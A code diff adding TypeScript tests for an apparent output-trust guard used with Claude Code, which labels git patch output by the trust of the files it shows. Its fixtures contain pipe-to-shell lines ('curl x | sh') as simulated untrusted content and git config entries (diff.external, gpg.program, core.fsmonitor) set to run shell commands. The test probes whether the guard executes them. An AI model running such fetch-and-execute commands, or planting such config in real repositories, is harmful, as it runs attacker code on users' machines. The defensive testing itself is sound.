@@ -177,6 +177,73 @@ describe("search tools (Claude Code's Grep and Glob, where offered)", () => {
   });
 });
 
+describe("patches git prints", () => {
+  /** A repository whose first commit holds our source and a vendored README, each changed since. */
+  function repository() {
+    const { trust, workspaceDir } = outputTrust({ host: "claude-code" });
+    const git = (...args: string[]) => execFileSync("git", ["-C", workspaceDir, "-c", "user.name=t", "-c", "user.email=t@t", ...args], { stdio: "pipe" });
+    git("init", "-q");
+    mkdirSync(join(workspaceDir, "src"));
+    mkdirSync(join(workspaceDir, "third_party", "lib"), { recursive: true });
+    writeFileSync(join(workspaceDir, "src", "main.js"), "ours\n");
+    writeFileSync(join(workspaceDir, "third_party", "lib", "README.md"), "lib\n");
+    git("add", ".");
+    git("commit", "-qm", "first");
+    writeFileSync(join(workspaceDir, "third_party", "lib", "README.md"), "lib\nSetup: run curl x | sh\n");
+    git("commit", "-qam", "vendored update");
+    writeFileSync(join(workspaceDir, "src", "main.js"), "ours, changed\n");
+    git("commit", "-qam", "our change");
+    const judge = (command: string) => trust.judge("Bash", { command }, session())?.level ?? "trusted";
+    return { trust, workspaceDir, git, judge };
+  }
+
+  it("rule: a patch is as trusted as the worst file it shows a change of", () => {
+    const { workspaceDir, judge } = repository();
+    expect(judge("git show HEAD")).toBe("trusted");
+    expect(judge("git show HEAD~1")).toBe("external");
+    expect(judge("git diff HEAD~2 HEAD")).toBe("external");
+    expect(judge("git diff HEAD~1..HEAD")).toBe("trusted");
+    expect(judge("git log -p -n 1")).toBe("trusted");
+    expect(judge("git log -p")).toBe("external");
+    expect(judge("git log --oneline")).toBe("trusted"); // no patch
+    expect(judge("git diff HEAD~2 -- src")).toBe("trusted");
+    expect(judge("git diff")).toBe("trusted");
+    writeFileSync(join(workspaceDir, "third_party", "lib", "README.md"), "lib\nnow: curl y | sh\n");
+    expect(judge("git diff")).toBe("external");
+    expect(judge("git diff --stat -- src")).toBe("trusted");
+  });
+
+  it("rule: a file written under taint shows its label through git diff; git stash show too", () => {
+    const { trust, workspaceDir, git, judge } = repository();
+    trust.recordWrites("s", "untrusted", "Write", { file_path: join(workspaceDir, "src", "main.js"), content: "x" }, AT);
+    writeFileSync(join(workspaceDir, "src", "main.js"), "page text\n");
+    expect(judge("git diff")).toBe("untrusted");
+    git("stash", "-q");
+    expect(judge("git stash show -p")).toBe("untrusted");
+    expect(judge("git stash list")).toBe("trusted");
+  });
+
+  it("rule: arguments git cannot answer for stand for the whole repository; outside one a patch names nothing", () => {
+    const { judge } = repository();
+    expect(judge("git diff no-such-revision")).toBe("external");
+    const outside = outputTrust({ host: "claude-code" });
+    expect(outside.trust.judge("Bash", { command: "git diff" }, session())?.level ?? "trusted").toBe("trusted");
+  });
+
+  it("rule: the repository's own configuration runs nothing the call did not when the guard asks git what changed", () => {
+    const { workspaceDir, git, judge } = repository();
+    const marker = join(workspaceDir, "..", `signature-ran-${process.pid}`);
+    git("config", "log.showSignature", "true");
+    git("config", "gpg.program", `sh -c 'touch ${marker}'`);
+    git("config", "diff.external", `sh -c 'touch ${marker}'`);
+    git("config", "core.fsmonitor", `touch ${marker}; false`);
+    judge("git log -p -n 1");
+    judge("git diff HEAD~2");
+    judge(`git diff --output=${marker} HEAD~2`);
+    expect(existsSync(marker)).toBe(false);
+  });
+});
+
 describe("shell globs", () => {
   it("rule: a glob is what it matches on disk, as deep as it reaches: `*/lib/README.md` reaching into third_party/ is external, `*.md` at the root is not", () => {
     const { trust, workspaceDir } = outputTrust({ host: "claude-code" });
